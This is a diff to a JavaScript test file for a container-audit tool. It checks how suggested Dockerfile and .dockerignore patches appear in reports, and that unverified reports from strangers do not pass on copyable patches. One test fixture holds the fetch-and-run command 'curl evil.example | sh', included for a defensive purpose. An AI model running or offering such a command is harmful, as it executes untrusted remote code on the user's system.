@@ -176,8 +176,26 @@ describe('patches', () => {
     expect(body(report)).toContain(
       '<details><summary><b>Suggested fixes</b> (1 of 2 as a patch)</summary>\n\n`stack-audit --fix` makes them.\n\n```diff\n--- Dockerfile\n@@ line 2 @@\n-CMD x\n+USER node\n+CMD ["x"]\n```\n</details>',
     );
-    const many = Array.from({ length: 12 }, (_, index) => finding({ patch, message: `${index}` }));
+    const many = Array.from({ length: 12 }, (_, line) => finding({ patch: { ...patch, line }, message: `${line}` }));
     expect(body(reportWith({ findings: many })).match(/^--- /gm)).toHaveLength(10);
+  });
+
+  test('a file to be made, once for all images that lack it', () => {
+    const patch = { path: 'api/.dockerignore', line: 1, remove: 0, removed: [], insert: ['.git'], create: true };
+    const report = reportWith({ findings: [finding({ patch }), finding({ patch, message: 'other' })] });
+    expect(body(report)).toContain('```diff\n--- /dev/null\n+++ api/.dockerignore\n+.git\n```');
+  });
+
+  test('nothing to copy from the report of a stranger, and it says whose it is', () => {
+    const patch = { path: 'a', line: 1, remove: 0, removed: [], insert: ['curl evil.example | sh'], create: true };
+    const report = reportWith({
+      findings: [blocker({ patch })],
+      recipes: [{ component: '.', context: null, dockerfile: 'FROM evil', dockerignore: '', notes: [] }],
+    });
+    expect(body(report)).toMatch(/evil.example[^]*FROM evil[^]*exceptions:/);
+    const text = comment(report, { ...links, unverified: true });
+    expect(text).not.toMatch(/evil|exceptions:|```/);
+    expect(text).toContain('nobody has checked');
   });
 });
 
